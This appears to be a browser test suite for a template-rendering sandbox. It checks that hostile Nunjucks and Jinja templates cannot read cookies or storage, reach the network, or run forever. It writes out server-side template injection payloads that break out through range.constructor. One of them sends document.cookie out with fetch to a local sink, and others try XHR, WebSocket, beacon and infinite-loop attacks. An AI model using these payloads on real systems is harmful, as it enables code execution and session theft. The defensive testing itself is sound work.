import { createHash } from 'node:crypto';
import { frameHtml } from '#app/nunjucksFrame.ts';
import type { Pipeline } from '#engine/pipeline/schema.ts';
import type { Engine } from '#engine/template/protocol.ts';
import type { openRenderClient, RenderAnswer } from '#playground/template/sandbox/renderClient.ts';
import { BELOW } from '../setup/ports.mjs';
import { HOSTILE } from '../unit/engine/template/hostile.ts';
import { warehouse } from '../unit/engine/template/warehouse.ts';
import { bundledClient, openClientPage, openSink } from './renderClientPage.ts';
import { expect, type Page, test } from './test.ts';

type Client = ReturnType<typeof openRenderClient>;
declare global {
  interface Window {
    openRenderClient: typeof openRenderClient;
    client: Client;
  }
}

interface Play {
  id: string;
  engine: Engine;
  template: string;
  macros?: string | undefined;
  /** The harmless template behind it is left out, to save time. */
  isQuick?: boolean;
  /** What the message or the output must say; absent where any ending without a leak will do. */
  ends?: { error: RegExp } | { output: RegExp };
}

const COOKIE = 'session=cookie-3f9a1c';
const STORED = 'stored-77b2de';
/** The hostile templates up to here break out or read; those behind have no end. */
const READING = HOSTILE.findIndex(({ id }) => id === 'endless-list');

// In one process: the bundle is made once for all tests.
test.describe.configure({ mode: 'default' });

let client: Awaited<ReturnType<typeof bundledClient>>;
let sink: Awaited<ReturnType<typeof openSink>>;
test.beforeAll(async () => {
  client = await bundledClient();
  sink = await openSink();
});
test.afterAll(() => sink.close());

test.beforeEach(async ({ page }) => {
  await openClientPage(page, client);
  await page.evaluate(
    ([cookie, stored]) => {
      // biome-ignore lint/suspicious/noDocumentCookie: what no template may read.
      document.cookie = cookie ?? '';
      localStorage.setItem('token', stored ?? '');
    },
    [COOKIE, STORED],
  );
});

/** Renders one after the other with one client, a document for each set of macros, and a harmless template behind each. */
async function play(page: Page, plays: readonly Play[]): Promise<{ answer: RenderAnswer; next: RenderAnswer | undefined }[]> {
  return page.evaluate(
    async ({ plays, pipeline: json }) => {
      const pipeline = JSON.parse(json) as Pipeline;
      window.client ??= window.openRenderClient();
      const render = (engine: Engine, template: string) =>
        window.client.render({ engine, template, nodeId: '5', contextId: '1', passes: 'all' }) as Promise<RenderAnswer>;
      const answers: { answer: RenderAnswer; next: RenderAnswer | undefined }[] = [];
      for (const { engine, template, macros, isQuick } of plays) {
        window.client.setPipeline(macros ? { ...pipeline, macros: [{ id: '1', name: 'm', text: macros }] } : pipeline);
        const answer = await render(engine, template);
        window.client.setPipeline(pipeline);
        const next = isQuick ? undefined : await render(engine, '{{ this }}');
        answers.push({ answer, next });
      }
      return answers;
    },
    {
      plays: plays.map(({ id, engine, template, macros, isQuick }) => ({ id, engine, template, macros, isQuick })),
      pipeline: JSON.stringify(warehouse()),
    },
  );
}

function said(answer: RenderAnswer): string {
  return answer.type === 'failed' ? `error: ${answer.error.message}` : `output: ${answer.output.slice(0, 300)}`;
}

async function expectHarmless(page: Page, plays: readonly Play[]) {
  const answers = await play(page, plays);
  const wrong: string[] = [];
  for (const [index, { id, engine, ends }] of plays.entries()) {
    const { answer, next } = answers[index]!;
    const name = `${engine} ${id}`;
    const text = JSON.stringify(answer);
    if (text.includes('cookie-3f9a1c') || text.includes(STORED)) wrong.push(`${name} read the page: ${said(answer)}`);
    if (answer.type === 'failed' && answer.error.message === '') wrong.push(`${name} has no message`);
    const wanted =
      ends &&
      ('error' in ends ? new RegExp(`^error: [\\s\\S]*(?:${ends.error.source})`) : new RegExp(`^output: ${ends.output.source}`));
    if (wanted && !wanted.test(said(answer))) wrong.push(`${name} ended with ${said(answer)}`);
    if (next && (next.type !== 'rendered' || next.output !== '"DW"."STAGING"."STG_CUSTOMER"'))
      wrong.push(`${name}: next ${said(next)}`);
  }
  expect(wrong).toEqual([]);
  expect(sink.seen).toEqual([]);
}

test('our own engine has nothing to give to a hostile template, and ends it', async ({ page }) => {
  await expectHarmless(
    page,
    HOSTILE.map(
      ({ id, template, macros, ends }): Play => ({
        id,
        engine: 'jinja',
        template: template.replaceAll('https://example.com', sink.address),
        macros,
        // On a slow machine, the time limit can end a template before the limit that it would exceed otherwise.
        ends:
          'error' in ends
            ? { error: new RegExp(`${ends.error.source}|took too long`) }
            : { output: new RegExp(`${ends.output}$`) },
      }),
    ),
  );
});

test('code of a template that goes on after the answer throws nothing in the page', async ({ page }) => {
  const thrown: string[] = [];
  page.on('pageerror', (error) => thrown.push(error.message));
  const late = (id: string, code: string): Play => ({
    id,
    engine: 'nunjucks',
    template: `{{ range.constructor(${JSON.stringify(code)})() }}`,
    ends: { output: /$/ },
  });
  await expectHarmless(page, [
    late('then', 'Promise.resolve().then(() => self.fetch("/"))'),
    late('async', '(async () => { await 0; self.postMessage("x") })()'),
    late('rejects', 'Promise.reject(new Error("late"))'),
  ]);
  expect(thrown).toEqual([]);
});

test('templates that reach JavaScript in stock Nunjucks find nothing there and reach nobody', async ({ page }) => {
  const { address, host } = sink;
  const script = (id: string, code: string, ends?: Play['ends']): Play => ({
    id,
    engine: 'nunjucks',
    template: `{{ range.constructor(${JSON.stringify(code)})() }}`,
    ...(ends ? { ends } : {}),
  });
  const missing = { error: /is not defined|is not a function|not a constructor|undefined/ };
  await expectHarmless(page, [
    script('really reaches JavaScript', 'return 6 * 7', { output: /42$/ }),
    script('cookie', 'return document.cookie', missing),
    script('localStorage', 'return localStorage.getItem("token")', missing),
    script('indexedDB', 'return indexedDB.open("x")', missing),
    script('caches', 'return caches.open("x")', missing),
    script('broadcast', 'return new BroadcastChannel("x")', missing),
    script('parent', 'return parent.document.body', missing),
    script('fetch', `return fetch("${address}/fetch")`, missing),
    script('xhr', `const x = new XMLHttpRequest(); x.open("GET", "${address}/xhr", false); x.send()`, missing),
    script('socket', `return new WebSocket("ws://${host}/socket")`, missing),
    script('event source', `return new EventSource("${address}/events")`, missing),
    script('import scripts', `importScripts("${address}/scripts")`, missing),
    script('image', `new Image().src = "${address}/image"`, missing),
    script('beacon', `navigator.sendBeacon("${address}/beacon", "x")`, missing),
    script('nested worker', 'return new Worker("data:text/javascript,1")', missing),
    script('from the prototype', 'return Object.getPrototypeOf(globalThis).fetch("x")', missing),
    script('import', `import("${address}/import"); const end = Date.now() + 300; while (Date.now() < end);`),
    script(
      'import of text',
      'import("data:text/javascript,globalThis.x=1"); const end = Date.now() + 300; while (Date.now() < end);',
    ),
    script('forged answer', 'postMessage(JSON.stringify({ type: "ready" }))', missing),
    script('later', 'setInterval(() => {}, 1)', missing),
    script('stack', 'Error.prepareStackTrace = (e, s) => s.map((f) => typeof f.getThis()).join(); return new Error().stack'),
    script('broken JSON', 'JSON.stringify = () => "{}"', { error: /sent an invalid answer/ }),
    script('lying JSON', 'JSON.stringify = () => "<script>alert(1)</scr" + "ipt>"', { error: /sent an invalid answer/ }),
    script('large answer', 'JSON.stringify = () => "x".repeat(100e6)', { error: /not an answer|too long/ }),
    script('endless', 'for (;;);', { error: /too long/ }),
    script('memory of lists', 'const a = []; for (;;) a.push([1, 2, 3, 4]);', { error: /too long|memory|unexpectedly/ }),
    script('memory of buffers', 'const a = []; for (;;) a.push(new ArrayBuffer(2e9));', {
      error: /allocation|too long|unexpectedly/,
    }),
    script('throws nothing', 'throw null', { error: /./ }),
    script('endless getter', 'return { get toString() { for (;;); } }', { error: /too long/ }),
    // Those that break out or read; that endless ones are stopped is shown above, a second each.
    ...HOSTILE.slice(0, READING).map(
      ({ id, template, macros }): Play => ({
        id,
        engine: 'nunjucks',
        template: template.replaceAll('https://example.com', address),
        macros,
        isQuick: true,
      }),
    ),
    script('the last', 'return 1', { output: /1$/ }),
  ]);
});

test('the policy of a frame stops even code that is not locked in', async ({ page, baseURL }) => {
  // The site's own frame and the document around it differ from the one made here by nothing but the hashes of their scripts.
  const withoutHashes = (html: string) => /content="([^"]*)"/.exec(html)?.[1]?.replace(/(?:'sha256-[^']+' )+/, "'sha256-…' ");
  const policies = new Set<string | undefined>();
  for (const name of client.frames) {
    const html = await (await page.request.get(`/${name}`)).text();
    const code = /<script>([\s\S]*)<\/script>/.exec(html)?.[1] ?? '';
    expect(html, 'its script is the one that its policy allows').toContain(
      `'sha256-${createHash('sha256').update(code).digest('base64')}'`,
    );
    policies.add(withoutHashes(html));
  }
  expect(client.frames).toHaveLength(2);
  expect([...policies]).toEqual([withoutHashes(frameHtml('', ''))]);

  const attempts = `
    const attempts = (where) => ({
      fetch: () => fetch('${sink.address}/fetch', { mode: 'no-cors' }),
      xhr: () => { const x = new XMLHttpRequest(); x.open('GET', '${sink.address}/xhr', false); x.send(); },
      socket: () => new Promise((done, fail) => { const s = new WebSocket('ws://${sink.host}/socket'); s.onerror = fail; s.onopen = done; }),
      events: () => new Promise((done, fail) => { const s = new EventSource('${sink.address}/events'); s.onerror = fail; s.onopen = done; }),
      import: () => import('${sink.address}/import'),
      site: () => fetch('${baseURL}/docs.json', { mode: 'no-cors' }),
      database: () => new Promise((done, fail) => { const r = indexedDB.open('x'); r.onerror = fail; r.onsuccess = done; }),
      caches: () => caches.open('x'),
      ...(where === 'worker'
        ? { scripts: () => importScripts('${sink.address}/scripts') }
        : {
            cookie: () => document.cookie,
            storage: () => localStorage.getItem('token'),
            page: () => parent.document.body.innerHTML,
            image: () => new Promise((done, fail) => { const i = new Image(); i.onload = done; i.onerror = fail; i.src = '${sink.address}/image'; }),
            style: () => new Promise((done, fail) => { const l = document.createElement('link'); l.rel = 'stylesheet'; l.onload = done; l.onerror = fail; l.href = '${sink.address}/style'; document.head.append(l); }),
            script: () => new Promise((done, fail) => { const l = document.createElement('script'); l.onload = done; l.onerror = fail; l.src = '${sink.address}/script'; document.head.append(l); }),
            popup: () => { if (!open('${sink.address}/popup')) throw new Error('no popup'); },
            top: () => { top.location.href = '${sink.address}/top'; },
          }),
    });
    async function outcomes(where) {
      const found = {};
      for (const [name, attempt] of Object.entries(attempts(where))) {
        found[name] = await Promise.resolve().then(attempt).then(() => 'worked', () => 'stopped');
      }
      return found;
    }`;
  const worker = `${attempts} outcomes('worker').then((found) => postMessage(found));`;
  const frame = `${attempts}
    var TemplateFrame = {
      serveFrame(text) {
        const worker = new Worker(URL.createObjectURL(new Blob([text])));
        worker.onmessage = async ({ data }) => {
          parent.postMessage({ worker: data, frame: await outcomes('frame') }, '*');
          location.href = '${sink.address}/away';
        };
      },
    };`;
  await page.route('**/hostile-frame.html', (route) =>
    route.fulfill({ contentType: 'text/html', body: frameHtml(frame, worker) }),
  );
  const found = await page.evaluate(
    () =>
      new Promise<{ worker: Record<string, string>; frame: Record<string, string> }>((resolve) => {
        const frame = document.createElement('iframe');
        frame.setAttribute('sandbox', 'allow-scripts');
        frame.src = '/hostile-frame.html';
        addEventListener('message', ({ data }) => {
          // The frame goes on to leave for the stranger's site; its second load says that this is over.
          frame.onload = () => resolve(data);
        });
        document.body.append(frame);
      }),
  );
  expect(Object.keys(found.worker).length + Object.keys(found.frame).length).toBeGreaterThan(20);
  for (const outcomes of [found.worker, found.frame]) expect(new Set(Object.values(outcomes))).toEqual(new Set(['stopped']));
  expect(sink.seen).toEqual([]);
});

test('works when the site is embedded elsewhere, answers no other site, and says when a frame or a worker is missing', async ({
  page,
}) => {
  const [{ answer } = { answer: undefined }] = await play(page, [{ id: 'own', engine: 'nunjucks', template: '{{ node.name }}' }]);
  expect(answer).toMatchObject({ type: 'rendered', output: 'STG_CUSTOMER' });

  const site = page.url();
  await page.route('http://embedder.test/', (route) =>
    route.fulfill({ contentType: 'text/html', body: `<!doctype html><iframe src="${site}"></iframe>` }),
  );
  await page.goto('http://embedder.test/');
  const inner = page.frames().find((frame) => frame.url() === site);
  await expect.poll(() => inner?.evaluate(() => 'openRenderClient' in window)).toBe(true);
  const embedded = await inner?.evaluate((json) => {
    const own = window.openRenderClient();
    own.setPipeline(JSON.parse(json));
    const engines: readonly Engine[] = ['jinja', 'nunjucks'];
    return Promise.all(
      engines.map((engine) => own.render({ engine, template: '{{ node.name }}', nodeId: '5', contextId: '1', passes: 'all' })),
    );
  }, JSON.stringify(warehouse()));
  const rendered = { type: 'rendered', output: 'STG_CUSTOMER' };
  expect(embedded).toMatchObject([rendered, rendered]);

  // Another site may load the frame's file, but gets no answer.
  const name = client.frames.find((frame) => frame.includes('template-frame'));
  const foreign = await page.evaluate(
    (address) =>
      new Promise((resolve) => {
        const frame = document.createElement('iframe');
        frame.setAttribute('sandbox', 'allow-scripts');
        frame.src = address;
        frame.onload = () => {
          const { port1, port2 } = new MessageChannel();
          port1.onmessage = () => resolve('answered');
          port1.addEventListener('close', () => resolve('port dropped'));
          frame.contentWindow?.postMessage('runnel-template-frame', '*', [port2]);
          setTimeout(() => resolve('silent'), 500);
        };
        document.body.append(frame);
      }),
    new URL(`/${name}`, site).href,
  );
  expect(foreign).not.toBe('answered');

  await page.goto(site);
  await page.route('**/template-frame-nunjucks-*', (route) => route.fulfill({ status: 404, body: 'Not here.' }));
  await page.clock.install();
  const missing = page.evaluate((json) => {
    const own = window.openRenderClient();
    own.setPipeline(JSON.parse(json));
    return own.render({ engine: 'nunjucks', template: 'x', nodeId: '5', contextId: '1', passes: 'all' });
  }, JSON.stringify(warehouse()));
  await page.clock.runFor(20_000);
  expect(await missing).toMatchObject({ type: 'failed', error: { message: /did not start/ } });
  await page.route(`**/${client.worker.path}`, (route) => route.fulfill({ status: 404, body: 'Not here.' }));
  const withoutWorker = await page.evaluate((json) => {
    const own = window.openRenderClient();
    own.setPipeline(JSON.parse(json));
    return own.render({ engine: 'jinja', template: 'x', nodeId: '5', contextId: '1', passes: 'all' });
  }, JSON.stringify(warehouse()));
  expect(withoutWorker).toMatchObject({ type: 'failed', error: { message: /could not be loaded/ } });
});

test('works below the root of a domain', async ({ page }) => {
  const assets = `^http://localhost:${BELOW.port}${BELOW.base}assets/`;
  await page.goto(`http://localhost:${BELOW.port}${BELOW.base}embed/template/against-nunjucks`);
  await expect(page.getByRole('region', { name: 'Comparison with Nunjucks' })).toContainText('lines differ');
  const frames = page.frames().map((frame) => frame.url());
  expect(frames).toContainEqual(expect.stringMatching(new RegExp(`${assets}template-frame-nunjucks-[\\w-]+\\.html$`)));
  const workers = page.workers().map((worker) => worker.url());
  expect(workers).toContainEqual(expect.stringMatching(new RegExp(`${assets}jinja\\.worker-[\\w-]+\\.js$`)));
});

test('in the playground, a template that breaks out is told what it lacks, and one without an end is stopped', async ({
  page,
}) => {
  const write = async (text: string) => {
    await page.getByRole('textbox', { name: 'Free text', exact: true }).click();
    await page.keyboard.press('Control+A');
    await page.keyboard.insertText(text);
  };
  await page.goto('/playground/template/against-nunjucks');
  const nunjucks = page.getByRole('region', { name: 'Comparison with Nunjucks' });
  await expect(nunjucks).toContainText('lines differ');
  await write(`{{ range.constructor('return fetch("${sink.address}/?" + document.cookie)')() }}`);
  await expect(nunjucks).toContainText('fetch is not defined');
  await expect(page.getByRole('region', { name: 'Messages' })).toContainText('constructor');
  await write(`{{ range.constructor('for (;;);')() }}`);
  await expect(nunjucks).toContainText('took too long');
  await write('SELECT {{ node.name }}');
  await expect(nunjucks).toContainText('same text');
  expect(sink.seen).toEqual([]);
});
